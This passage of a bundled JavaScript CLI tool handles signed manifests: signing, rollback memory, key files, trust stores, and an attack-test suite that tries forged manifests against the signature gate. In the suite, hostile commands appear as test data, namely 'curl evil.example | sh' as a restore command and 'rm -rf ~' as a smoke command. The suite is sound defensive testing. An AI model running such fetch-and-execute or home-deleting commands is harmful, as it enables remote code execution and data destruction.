    // Renewing an expired manifest or moving it is an edit like any other: only signatures and rollback count.
    const input = gateInput(m);
    const decision = await decide(input, { ...policy, require: 'any', approveDigest: undefined }, { ...ALL_DEFENSES, expiry: false, scope: false });
    if (!decision.allowed) {
        throw new SwrError(`${m.file}: signature does not verify (${decision.reason}): refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
    }
    return { resign: true };
}

;// CONCATENATED MODULE: ./src/core/sign/sign.ts
/**
 * Signing a manifest: raise `version`, then sign the new body with every key this machine holds
 * (HMAC and/or ML-DSA). Old signatures are dropped: they covered another body.
 */




function hasSigningKey(keys) {
    return keys.hmacKey !== undefined || keys.identity !== undefined;
}
/** A new document: same entries, a version above both the old one and `floor`, fresh signatures. */
async function signDocument(doc, keys, 
/** The highest version already accepted on this machine: signing goes above it. */
floor = 0) {
    const body = { ...doc.body, version: Math.max(doc.body.version, floor) + 1 };
    const input = envelope_signingInput(body);
    const signatures = [];
    if (keys.hmacKey)
        signatures.push(signHmac(keys.hmacKey, input));
    if (keys.identity)
        signatures.push(await mldsa_signMldsa(keys.identity, input));
    return { doc: { ...doc, body, signatures }, digest: manifestDigest(body) };
}
/**
 * Co-signing: add this machine's ML-DSA signature to a manifest whose signatures already verify,
 * without changing the body or its version, so distinct signers can meet a threshold.
 */
async function cosignDocument(doc, identity) {
    const sig = await signMldsa(identity, signingInput(doc.body));
    const others = doc.signatures.filter(s => !(s.alg === 'ml-dsa-87' && s.keyid === identity.fingerprint));
    return { ...doc, signatures: [...others, sig] };
}

;// CONCATENATED MODULE: ./src/core/sign/version-memory.ts
/**
 * Rollback memory: the highest manifest version this machine has accepted for a manifest, and its
 * digest. An older version is a rollback; the same version with another digest is a fork. CI
 * runners start empty, so there the floor comes from the caller (--min-version / an input).
 *
 * Memory is keyed by the manifest's identity, not by how its path was spelled: the real path
 * (symlinks resolved, so `-m` through a link meets the same memory) and, when the signed scope
 * names both repository and manifest path, that scope (so a second checkout of the repository
 * shares it too). Recall takes the highest version under any of the keys; remember writes all of
 * them. Files written under the older spelled-path key are still read (they are the real-path key
 * whenever the path was spelled without a symlink).
 */





function keyFile(stateDir, identity) {
    const key = (0,external_node_crypto_.createHash)('sha256').update(identity).digest('hex').slice(0, 32);
    return external_node_path_default().join(stateDir, 'versions', `${key}.json`);
}
function realPath(file) {
    const abs = external_node_path_default().resolve(file);
    try {
        return external_node_fs_default().realpathSync(abs);
    }
    catch {
        // Not created yet: resolve the directory, which usually exists.
        try {
            return external_node_path_default().join(external_node_fs_default().realpathSync(external_node_path_default().dirname(abs)), external_node_path_default().basename(abs));
        }
        catch {
            return abs;
        }
    }
}
/** Every memory file that speaks for this manifest; the first is the real-path key. */
function memoryFiles(stateDir, manifestFile, scope) {
    const files = [keyFile(stateDir, realPath(manifestFile))];
    if (scope?.repository !== undefined && scope.manifest_path !== undefined)
        files.push(keyFile(stateDir, `scope\0${scope.repository.toLowerCase()}\0${scope.manifest_path}`));
    return files;
}
function readOne(file) {
    try {
        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
        return Number.isSafeInteger(v.version) && /^[0-9a-f]{64}$/.test(v.digest) ? v : undefined;
    }
    catch {
        return undefined;
    }
}
function recall(stateDir, manifestFile, scope) {
    // The spelled-path key is read too: memory written before keys were real paths.
    const files = [
        ...memoryFiles(stateDir, manifestFile, scope),
        keyFile(stateDir, external_node_path_default().resolve(manifestFile))
    ];
    let best;
    for (const f of new Set(files)) {
        const v = readOne(f);
        if (v && (!best || v.version > best.version))
            best = v;
    }
    return best;
}
/** Remember an accepted manifest under each of its keys; never lowers what is remembered. */
function remember(stateDir, manifestFile, r, scope) {
    const old = recall(stateDir, manifestFile, scope);
    if (old && old.version > r.version)
        return;
    try {
        ensurePrivateDir(stateDir, 'versions');
        for (const f of memoryFiles(stateDir, manifestFile, scope))
            writeFileAtomic(f, JSON.stringify(r) + '\n', { mode: 0o600 });
    }
    catch {
        // Memory is a second line of defence; failing to write it must not fail the run.
    }
}

;// CONCATENATED MODULE: ./src/cli/options.ts
/**
 * Options every command shares, and the typed readers for the others. Values are checked here so a
 * bad flag is a one-line usage error (exit 4) that names the flag.
 */




function intOption(name, min, max) {
    return (v) => {
        if (!/^\d+$/.test(v))
            throw new InvalidArgumentError(`${name} must be a whole number`);
        const n = Number(v);
        if (n < min || n > max)
            throw new InvalidArgumentError(`${name} must be between ${min} and ${max}`);
        return n;
    };
}
function collect(v, prev) {
    return [...(prev ?? []), v];
}
function manifestLocation(g, io) {
    return locateManifest({ flag: g.manifest, env: io.env.SWR_MANIFEST, cwd: io.cwd, home: io.home });
}
function stateDir(io) {
    return defaultStateDir(io.env, io.home);
}
/** SWR_HISTORY_LIMIT: records kept in the current history file before it rotates. */
function historyLimits(io) {
    const v = io.env.SWR_HISTORY_LIMIT;
    if (v === undefined || v === '')
        return {};
    if (!/^\d+$/.test(v) || Number(v) < 1)
        throw new UsageError('SWR_HISTORY_LIMIT must be a whole number of records (at least 1)');
    return { maxRecords: Number(v) };
}

;// CONCATENATED MODULE: ./src/core/sign/keys.ts
/**
 * Key material on this machine, in the private state directory only (never the workspace):
 * `keys/hmac.key` and `keys/mldsa87.seed`, 64 hex digits each, mode 0600. A key file that others
 * can read is refused rather than used.
 */







const HMAC_KEY_FILE = 'hmac.key';
const IDENTITY_FILE = 'mldsa87.seed';
/** The seed of this machine's X-Wing key, which seals pushed manifests (see sync.ts). */
const SYNC_KEY_FILE = 'sync.seed';
function keyPath(stateDir, name) {
    return external_node_path_default().join(stateDir, 'keys', name);
}
/** The contents of a private key file, or undefined when it does not exist. */
function readPrivate(file) {
    let st;
    try {
        st = external_node_fs_default().lstatSync(file);
    }
    catch (err) {
        if (errnoCode(err) === 'ENOENT')
            return undefined;
        throw err;
    }
    if (!st.isFile())
        throw new SwrError(`${file}: key file is not a regular file`, EXIT.UNREPAIRABLE);
    if ((st.mode & 0o077) !== 0) {
        const mode = (st.mode & 0o777).toString(8);
        throw new SwrError(`${file}: key file is readable by others (mode 0${mode}); run chmod 600 on it`, EXIT.UNREPAIRABLE);
    }
    return external_node_fs_default().readFileSync(file, 'utf8');
}
/** SWR_HMAC_KEY (passed in by the shell) wins over the key file. */
function loadHmacKey(stateDir, envValue) {
    if (envValue !== undefined && envValue !== '') {
        const key = parseHmacKey(envValue);
        if (!key)
            throw new SwrError('SWR_HMAC_KEY must be 64 hex digits or at least 32 characters', EXIT.BAD_MANIFEST);
        return { key, source: 'env' };
    }
    const text = readPrivate(keyPath(stateDir, HMAC_KEY_FILE));
    if (text === undefined)
        return undefined;
    const key = parseHmacKey(text);
    if (!key)
        throw new SwrError(`${keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, EXIT.UNREPAIRABLE);
    return { key, source: 'file' };
}
function loadIdentitySeed(stateDir) {
    const text = readPrivate(keyPath(stateDir, IDENTITY_FILE));
    if (text === undefined)
        return undefined;
    if (!/^[0-9a-f]{64}\s*$/.test(text))
        throw new SwrError(`${keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
    return Buffer.from(text.trim(), 'hex');
}
/** Create a new random key file; refuses to replace an existing one. */
function createKeyFile(stateDir, name) {
    ensurePrivateDir(stateDir, 'keys');
    const bytes = (0,external_node_crypto_.randomBytes)(32);
    try {
        writeFileAtomic(keyPath(stateDir, name), bytes.toString('hex') + '\n', {
            mode: 0o600,
            exclusive: true
        });
    }
    catch (err) {
        if (errnoCode(err) === 'EEXIST') {
            throw new SwrError(`${keyPath(stateDir, name)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
        }
        throw err;
    }
    return bytes;
}
/** The sync key's seed: SWR_SYNC_KEY (64 hex digits) wins over the key file. */
function loadSyncSeed(stateDir, envValue) {
    if (envValue !== undefined && envValue !== '') {
        if (!/^[0-9a-fA-F]{64}$/.test(envValue.trim()))
            throw new SwrError('SWR_SYNC_KEY must be 64 hex digits', EXIT.BAD_MANIFEST);
        return Buffer.from(envValue.trim(), 'hex');
    }
    const text = readPrivate(keyPath(stateDir, SYNC_KEY_FILE));
    if (text === undefined)
        return undefined;
    if (!/^[0-9a-f]{64}\s*$/.test(text))
        throw new SwrError(`${keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
    return Buffer.from(text.trim(), 'hex');
}

;// CONCATENATED MODULE: ./src/core/sign/trust.ts
/**
 * Which ML-DSA signers this machine trusts. Locally: a trust store in the private state directory
 * (`trust.json`, 0600) plus this machine's own identity. In CI: fingerprints or public keys from an
 * action input, never from files of the checked-out tree.
 */






function storePath(stateDir) {
    return external_node_path_default().join(stateDir, 'trust.json');
}
function readTrustStore(stateDir) {
    let text;
    try {
        text = external_node_fs_default().readFileSync(storePath(stateDir), 'utf8');
    }
    catch {
        return [];
    }
    try {
        const v = JSON.parse(text);
        if (v.v !== 1 || !Array.isArray(v.signers))
            throw new Error('shape');
        return v.signers.filter(s => normalizeFingerprint(s.fingerprint) === s.fingerprint && typeof s.name === 'string');
    }
    catch {
        throw new SwrError(`${storePath(stateDir)}: trust store is damaged; fix or remove it`, EXIT.UNREPAIRABLE);
    }
}
function writeTrustStore(stateDir, signers) {
    ensurePrivateDir(stateDir);
    writeFileAtomic(storePath(stateDir), JSON.stringify({ v: 1, signers }, null, 2) + '\n', {
        mode: 0o600
    });
}
function addTrusted(stateDir, fp, name, now) {
    const norm = normalizeFingerprint(fp);
    if (!norm)
        throw new SwrError(`${fp}: not a fingerprint (64 hex digits, spaces allowed)`, EXIT.BAD_MANIFEST);
    const signers = readTrustStore(stateDir).filter(s => s.fingerprint !== norm);
    const signer = { fingerprint: norm, name, added: now.toISOString() };
    writeTrustStore(stateDir, [...signers, signer]);
    return signer;
}
/** Remove by fingerprint or name; returns what was removed. */
function removeTrusted(stateDir, what) {
    const norm = normalizeFingerprint(what);
    const signers = readTrustStore(stateDir);
    const removed = signers.filter(s => s.fingerprint === norm || s.name === what);
    if (removed.length === 0)
        throw new SwrError(`no trusted signer matches ${what}`, EXIT.BAD_MANIFEST);
    writeTrustStore(stateDir, signers.filter(s => !removed.includes(s)));
    return removed;
}
/**
 * Trusted fingerprints from an input: one per line (or comma-separated), each a fingerprint or a
 * base64 public key (whose fingerprint is computed); text after whitespace following a public key,
 * or after "#", is a comment.
 */
function parseTrustedSigners(text) {
    const out = new Set();
    for (const raw of text.split(/[\n,]/)) {
        const line = raw.replace(/#.*/, '').trim();
        if (!line)
            continue;
        const fp = normalizeFingerprint(line);
        if (fp) {
            out.add(fp);
            continue;
        }
        const token = line.split(/\s+/)[0] ?? '';
        const key = /^[A-Za-z0-9+/]+={0,2}$/.test(token) ? Buffer.from(token, 'base64') : undefined;
        if (key && key.length === PUBLIC_KEY_BYTES)
            out.add(fingerprint(key));
        else
            throw new SwrError(`trusted signer "${line.slice(0, 40)}": not a fingerprint or ML-DSA-87 public key`, EXIT.BAD_MANIFEST);
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/sign/policy.ts
/**
 * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
 * local trust store; the Action passes its inputs (trust never comes from the checked-out tree).
 */







function parseRequirement(v) {
    if (!REQUIREMENTS.includes(v)) {
        throw new UsageError(`require must be one of ${REQUIREMENTS.join(', ')} (got "${v}")`);
    }
    return v;
}
/** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
function manifestPathInWorkspace(m) {
    return isInside(m.workspace, m.file)
        ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
        : undefined;
}
function makePolicy(m, src) {
    const trusted = new Set();
    if (src.local)
        for (const s of readTrustStore(src.stateDir))
            trusted.add(s.fingerprint);
    if (src.ownFingerprint)
        trusted.add(src.ownFingerprint);
    for (const t of src.trustedSigners)
        for (const fp of parseTrustedSigners(t))
            trusted.add(fp);
    const hmac = src.local ? loadHmacKey(src.stateDir, src.hmacKeyText) : undefined;
    return {
        require: parseRequirement(src.require),
        hmacKey: hmac?.key ?? (src.hmacKeyText ? loadHmacKey(src.stateDir, src.hmacKeyText)?.key : undefined),
        trusted,
        threshold: src.threshold,
        minVersion: src.minVersion,
        remembered: src.local ? recall(src.stateDir, m.file, m.body.scope) : undefined,
        run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
        now: src.now,
        approveDigest: src.approveDigest
    };
}

;// CONCATENATED MODULE: ./src/cli/trust-context.ts
/**
 * Turning the environment and flags into the gate's policy and the signing keys. Secrets come from
 * SWR_HMAC_KEY or the private state directory; trusted signers from the trust store, this machine's
 * own identity, --trusted-signer and SWR_TRUSTED_SIGNERS; never from the workspace.
 */





const OWN_PUBLIC_KEY_FILE = 'mldsa87.pub';
/** This machine's own fingerprint, from the public key written at keygen (no ML-DSA load). */
function ownFingerprint(dir) {
    try {
        const line = external_node_fs_default().readFileSync(keyPath(dir, OWN_PUBLIC_KEY_FILE), 'utf8').split('\n')[0] ?? '';
        return normalizeFingerprint(line);
    }
    catch {
        return undefined;
    }
}
function buildPolicy(m, flags, io) {
    const dir = stateDir(io);
    return makePolicy(m, {
        stateDir: dir,
        require: flags.require ?? io.env.SWR_REQUIRE ?? 'any',
        hmacKeyText: io.env.SWR_HMAC_KEY,
        local: true,
        trustedSigners: [
            ...(flags.trustedSigner ?? []),
            ...(io.env.SWR_TRUSTED_SIGNERS ? [io.env.SWR_TRUSTED_SIGNERS] : [])
        ],
        ownFingerprint: ownFingerprint(dir),
        threshold: flags.threshold,
        minVersion: flags.minVersion,
        approveDigest: flags.iTrustThisManifest,
        run: { repository: io.env.GITHUB_REPOSITORY, ref: io.env.GITHUB_REF },
        now: new Date()
    });
}
/** The keys this machine can sign with (loads ML-DSA only when an identity exists). */
async function signingKeys(io) {
    const dir = stateDir(io);
    const hmacKey = loadHmacKey(dir, io.env.SWR_HMAC_KEY)?.key;
    const seed = loadIdentitySeed(dir);
    return { hmacKey, identity: seed ? await identityFromSeed(seed) : undefined };
}

;// CONCATENATED MODULE: ./src/cli/edit.ts
/**
 * Saving an edited manifest under the editing rules: when `resign` (an authorised edit of a signed
 * manifest, or a manifest this command created from disk) it is signed with the keys at hand;
 * otherwise it is saved unsigned. Signatures over the old body are dropped either way. `created`
 * makes the write exclusive: a new manifest never replaces one that appeared meanwhile.
 */






async function saveEdited(file, doc, how, io) {
    const opts = { create: how.created, ...(how.sidecars ? { sidecars: how.sidecars } : {}) };
    const dir = stateDir(io);
    // Versions only go up on this machine, even when an older copy was approved or the file recreated.
    const floor = recall(dir, file, doc.body.scope)?.version ?? 0;
    if (how.resign) {
        const keys = await signingKeys(io);
        if (hasSigningKey(keys)) {
            const signed = await signDocument(doc, keys, floor);
            saveManifest(file, signed.doc, opts);
            remember(dir, file, { version: signed.doc.body.version, digest: signed.digest }, signed.doc.body.scope);
            return { digest: signed.digest, version: signed.doc.body.version, signed: true };
        }
    }
    const version = how.created && floor === 0 ? doc.body.version : Math.max(doc.body.version, floor) + 1;
    const body = { ...doc.body, version };
    saveManifest(file, { ...doc, body, signatures: [] }, opts);
    const digest = manifestDigest(body);
    // An approved edit saved unsigned (no key here) is still what this machine accepted.
    if (how.resign && !how.created)
        remember(dir, file, { version, digest, signed: false }, body.scope);
    const note = how.resign
        ? 'no signing key here: the edited manifest is unsigned; sign it with "swr sign"'
        : undefined;
    return { digest, version, signed: false, ...(note ? { note } : {}) };
}

;// CONCATENATED MODULE: ./src/cli/commands/add.ts
/**
 * `swr add PATH...`: capture entries from disk now. Creates `./.swr/manifest.json` describing the
 * current directory when no manifest exists; never overwrites a manifest that appeared meanwhile.
 */








/**
 * Load the manifest to edit under the editing rules, or start a new one (workspace: --workspace,
 * else the .swr's parent, else cwd).
 */
async function openForEdit(flags, io) {
    const located = manifestLocation(flags, io);
    if (located.how !== 'new' && external_node_fs_default().existsSync(located.file)) {
        const m = loadManifest(located.file, { workspace: flags.workspace, cwd: io.cwd });
        if (m.format !== 3) {
            throw new UsageError(`${located.file} is a format-2 manifest: convert it first with "swr import"`);
        }
        const auth = await authorizeEdit(m, buildPolicy(m, {}, io), flags.approveDigest);
        const opened = {
            file: m.file,
            doc: m.doc,
            workspace: m.workspace,
            created: false,
            resign: auth.resign
        };
        return auth.note ? { ...opened, note: auth.note } : opened;
    }
    const dir = external_node_path_default().dirname(located.file);
    const workspace = flags.workspace
        ? external_node_path_default().resolve(io.cwd, flags.workspace)
        : external_node_path_default().basename(dir) === '.swr'
            ? external_node_path_default().dirname(dir)
            : io.cwd;
    if (!external_node_fs_default().existsSync(workspace) || !external_node_fs_default().statSync(workspace).isDirectory()) {
        throw new UsageError(`workspace ${workspace} is not a directory`);
    }
    const real = external_node_fs_default().realpathSync(workspace);
    if (real === '/')
        throw new UsageError('workspace "/" is refused: describe a directory, not the whole machine');
    const doc = newDocument(located.file, real, new Date());
    return { file: located.file, doc, workspace: real, created: true, resign: true };
}
async function addCommand(paths, flags, io) {
    if (flags.id && paths.length > 1)
        throw new UsageError('--id names one entry: give one PATH with it');
    const m = await openForEdit(flags, io);
    const taken = new Set(m.doc.body.entries.map(e => e.id));
    const takenPaths = new Map(m.doc.body.entries.map(e => [e.path, e.id]));
    const added = [];
    for (const input of paths) {
        const rel = toManifestPath(input, io.cwd, m.workspace);
        if (!rel.ok)
            throw new UsageError(rel.why);
        const dup = takenPaths.get(rel.path);
        if (dup)
            throw new UsageError(`${input}: already tracked as entry "${dup}"`);
        const captured = await captureEntry(m.workspace, {
            path: rel.path,
            id: flags.id,
            kind: flags.kind,
            tier: flags.tier,
            needs: flags.needs,
            restore: flags.restore,
            timeout_s: flags.timeout,
            smoke: flags.smoke,
            note: flags.note,
            sentinels: flags.sentinel,
            ignore: flags.ignore,
            minFiles: flags.minFiles,
            maxFiles: flags.maxFiles
        }, taken, {
            pool: { jobs: flags.jobs },
            exclude: ownPaths(m.file, stateDir(io)),
            stateDir: stateDir(io)
        });
        taken.add(captured.entry.id);
        takenPaths.set(captured.entry.path, captured.entry.id);
        added.push(captured);
    }
    const unknownNeeds = (flags.needs ?? []).filter(n => !taken.has(n));
    if (unknownNeeds.length > 0)
        throw new UsageError(`--needs: no entry with id ${unknownNeeds.join(', ')}`);
    m.doc.body.entries.push(...added.map(a => a.entry));
    const sidecars = new Map(added.flatMap(a => (a.index ? [[indexPath(m.file, a.entry.id), a.index]] : [])));
    const saved = await saveEdited(m.file, m.doc, { resign: m.resign, created: m.created, sidecars }, io);
    if (flags.json) {
        io.stdout.write(JSON.stringify({ schema: 'swr.add/1', manifest: m.file, added: added.map(a => a.entry) }, null, 2) + '\n');
    }
    else if (!flags.quiet) {
        if (m.created)
            io.stdout.write(`created ${external_node_path_default().relative(io.cwd, m.file) || m.file} describing ${m.workspace}\n`);
        for (const { entry } of added)
            io.stdout.write(`added ${entry.kind} "${entry.id}" (${entry.path}, tier ${entry.tier}${add_describe(entry)})\n`);
        io.stdout.write(saved.signed
            ? `signed version ${saved.version}, digest ${saved.digest}\n`
            : `note: ${saved.note ?? m.note ?? 'manifest is unsigned: run "swr sign" to approve it'}\n`);
    }
    return EXIT.HEALTHY;
}
function add_describe(e) {
    switch (e.kind) {
        case 'file':
            return `, ${e.expect.size.toLocaleString('en-US')} bytes, mode ${e.expect.mode}`;
        case 'blob':
            return `, ${e.expect.size.toLocaleString('en-US')} bytes`;
        case 'tree':
            return `, ${(e.expect.files ?? 0).toLocaleString('en-US')} files, sentinels: ${e.expect.sentinels.join(', ') || 'none'}`;
        case 'link':
            return `, -> ${e.expect.target}`;
    }
}

;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
/**
 * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
 * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
 * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
 * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
 *
 * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
 * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
 * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
 * else allowed is a forgery; any exception other than a clean refusal is a crash.
 */









const ATTACK_CLASSES = [
    'byte-flip',
    'field-edit',
    'duplicate-key',
    'reorder-entries',
    'replay-old-version',
    'expired-copy',
    'wrong-scope',
    'resign-untrusted',
    'fingerprint-substitution',
    'strip-signatures',
    'foreign-payload-type',
    'oversized-field',
    'deep-nesting',
    'huge-escrow'
];
const ALL_SUITE_DEFENSES = Object.freeze({
    ...ALL_DEFENSES,
    strictParse: true
});
/** Which class shows that each defence is load-bearing. */
const DEFENCE_PROBES = {
    signatures: 'field-edit',
    trust: 'resign-untrusted',
    fingerprintFromKey: 'fingerprint-substitution',
    payloadType: 'foreign-payload-type',
    expiry: 'expired-copy',
    scope: 'wrong-scope',
    rollback: 'replay-old-version',
    strictParse: 'duplicate-key'
};
const REPO = 'acme/app';
const REF = 'refs/heads/main';
const NOW = new Date('2026-06-01T00:00:00Z');
function baseBody(version, extra = {}) {
    const sha = (c) => c.repeat(64);
    return {
        schema: 3,
        version,
        workspace: '..',
        created: '2026-01-01T00:00:00Z',
        expires: '2027-01-01T00:00:00Z',
        scope: { repository: REPO, ref: 'refs/heads/*' },
        entries: [
            {
                id: 'shim',
                kind: 'file',
                path: '.shim/npx',
                tier: 0,
                needs: [],
                restore: 'install-shim',
                expect: { size: 40, sha256: sha('a'), mode: '0755' }
            },
            {
                id: 'src',
                kind: 'tree',
                path: 'src',
                tier: 2,
                needs: ['shim'],
                ignore: [],
                restore: 'git checkout -- src',
                expect: {
                    sentinels: ['main.c'],
                    min_files: 3,
                    max_files: 3,
                    files: 3,
                    meta_digest: sha('b'),
                    content_digest: sha('c')
                }
            },
            {
                id: 'model',
                kind: 'blob',
                path: 'models/m.gguf',
                tier: 3,
                needs: [],
                restore: 'fetch-model',
                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
            }
        ],
        ...extra
    };
}
/** Sign `body` as-is (signDocument raises the version, so start one lower). */
async function signed(body, keys) {
    const lowered = { ...body, version: body.version - 1 };
    return (await signDocument({ body: lowered, signatures: [] }, keys)).doc;
}
async function buildScenario(seed) {
    const trustedId = await identityFromSeed(seed(1));
    const attacker = await identityFromSeed(seed(2));
    const hmacKey = Buffer.from(seed(3));
    const keys = { hmacKey, identity: trustedId };
    const honest = await signed(baseBody(5), keys);
    const evilBody = baseBody(6, {});
    evilBody.entries[0].restore = 'curl evil.example | sh';
    const foreign = await signMldsaRaw(trustedId, evilBody);
    const untrusted = await signed(evilBody, { identity: attacker });
    const policy = {
        require: 'any',
        hmacKey,
        trusted: new Set([trustedId.fingerprint]),
        minVersion: 5,
        run: { repository: REPO, ref: REF, manifestPath: '.swr/manifest.json' },
        now: NOW
    };
    return {
        honest,
        honestText: serializeDocument(honest),
        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
        policy,
        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
        untrustedText: serializeDocument(untrusted),
        substitutedText: serializeDocument({
            ...untrusted,
            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
        })
    };
}
/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
async function signMldsaRaw(id, body) {
    return mldsa_signMldsa(id, canonicalBytes(body));
}
/** The attacker's document text for mutation `m`. */
async function mutate(s, m) {
    const text = s.honestText;
    switch (m.cls) {
        case 'byte-flip': {
            const b = Buffer.from(text, 'utf8');
            const i = m.a % b.length;
            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
            return b.toString('utf8');
        }
        case 'field-edit':
            return fieldEdit(s, m);
        case 'duplicate-key': {
            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
            const at = nthIndex(text, '"restore": ', m.a % 3);
            return at < 0
                ? text
                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
        }
        case 'reorder-entries': {
            const doc = structuredClone(s.honest);
            doc.body.entries.reverse();
            if (m.a % 2 === 1)
                doc.body.entries.push(doc.body.entries.shift());
            return serializeDocument(doc);
        }
        case 'replay-old-version':
            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
        case 'expired-copy':
            return s.expiredText;
        case 'wrong-scope':
            return s.otherScopeText;
        case 'resign-untrusted':
            return s.untrustedText;
        case 'fingerprint-substitution':
            return s.substitutedText;
        case 'strip-signatures': {
            const doc = structuredClone(s.honest);
            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
            if (m.a % 2 === 1)
                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
            return serializeDocument(doc);
        }
        case 'foreign-payload-type':
            return s.foreignText;
        case 'oversized-field': {
            const doc = structuredClone(s.honest);
            doc.body.entries[0] = {
                ...doc.body.entries[0],
                restore: 'x'.repeat(65537 + (m.a % 1000))
            };
            return serializeDocument(doc);
        }
        case 'deep-nesting': {
            const depth = 33 + (m.a % 200);
            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
        }
        case 'huge-escrow': {
            const doc = structuredClone(s.honest);
            const e = doc.body.entries[0];
            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
            return JSON.stringify(doc);
        }
    }
}
function nthIndex(text, needle, n) {
    let at = -1;
    for (let i = 0; i <= n; i++) {
        at = text.indexOf(needle, at + 1);
        if (at < 0)
            return -1;
    }
    return at;
}
function fieldEdit(s, m) {
    const doc = structuredClone(s.honest);
    const e = doc.body.entries[m.a % doc.body.entries.length];
    const expect = e.expect;
    switch (m.b % 8) {
        case 0:
            e.restore = `${String(e.restore)}; curl evil.example | sh`;
            break;
        case 1:
            e.path = `${String(e.path)}x`;
            break;
        case 2:
            e.tier = ((Number(e.tier) + 1) % 5);
            break;
        case 3:
            e.needs = [];
            break;
        case 4:
            expect.size = Number(expect.size ?? 0) + 1;
            break;
        case 5:
            doc.body.version += 1;
            break;
        case 6:
            doc.body.expires = '2099-01-01T00:00:00Z';
            break;
        default:
            e.smoke = 'rm -rf ~';
    }
    return serializeDocument(doc);
}
/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
function readerView(text, keep) {
    const root = (0,main.parseTree)(text);
    const build = (n) => {
        if (!n)
            return undefined;
        if (n.type === 'object') {
            const out = new Map();
            for (const p of n.children ?? []) {
                const key = String(p.children?.[0]?.value);
                if (keep === 'first' && out.has(key))
                    continue;
                out.set(key, build(p.children?.[1]));
            }
            return Object.fromEntries(out);
        }
        if (n.type === 'array')
            return (n.children ?? []).map(build);
        return n.value;
    };
    return build(root);
}
function sameAsHonest(s, body) {
    try {
        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
    }
    catch {
        return false;
    }
}
/** Load `text` as a run would and ask the gate. */
async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
    try {
        let doc;
        if (defenses.strictParse)
            doc = parseManifestText(text, 'attack.json').doc;
        else {
            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
            const lax = JSON.parse(text);
            doc = parseManifestText(JSON.stringify(lax), 'attack.json').doc;
        }
        const decision = await decide({ body: doc.body, signatures: doc.signatures, digest: manifestDigest(doc.body) }, s.policy, defenses);
        if (!decision.allowed)
            return 'refused';
        const honest = sameAsHonest(s, doc.body) &&
            sameAsHonest(s, readerView(text, 'first')?.body) &&
            sameAsHonest(s, readerView(text, 'last')?.body);
        return honest ? 'accepted-honest' : 'forgery';
    }
    catch (err) {
        if (err instanceof SwrError || err instanceof SyntaxError)
            return 'refused';
        return 'crash';
    }
}
function emptyCounts() {
    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
}
function tally(c, cls, o) {
    c.attempts++;
    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
    k.attempts++;
    if (o === 'refused')
        c.refused++;
    else if (o === 'accepted-honest')
        c.acceptedHonest++;
    else if (o === 'forgery') {
        c.forgeries++;
        k.forgeries++;
    }
    else {
        c.crashes++;
        k.crashes++;
    }
}
/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
    const counts = emptyCounts();
    for (let i = 0; i < count; i++) {
        const cls = classes[next() % classes.length];
        const m = { cls, a: next(), b: next() };
        tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
    }
    return counts;
}

;// CONCATENATED MODULE: ./src/cli/commands/attacktest.ts
/**
 * `swr attacktest`: run the attack suite against this build (the same classes and oracle as the
 * property test in npm test), then switch each defence off once to show the suite has teeth.
 * Exit 0 when nothing was forged and nothing crashed with every defence on, else 2.
 */



/** A small deterministic PRNG (xorshift32) seeded from --seed or random bytes. */
function prng(seed) {
    let x = (0,external_node_crypto_.createHash)('sha256').update(seed).digest().readUInt32LE(0) || 1;
    return () => {
        x ^= x << 13;
        x ^= x >>> 17;
        x ^= x << 5;
        return x >>> 0;
    };
}
async function attacktestCommand(flags, io) {
    const seed = flags.seed ?? (0,external_node_crypto_.randomBytes)(8).toString('hex');
    const next = prng(seed);
    const scenario = await buildScenario(n => (0,external_node_crypto_.createHash)('sha256').update(`${seed}/${n}`).digest());
    const t0 = performance.now();
    const counts = await runSuite(scenario, flags.count, next);
    const ms = Math.round(performance.now() - t0);
    const probes = {};
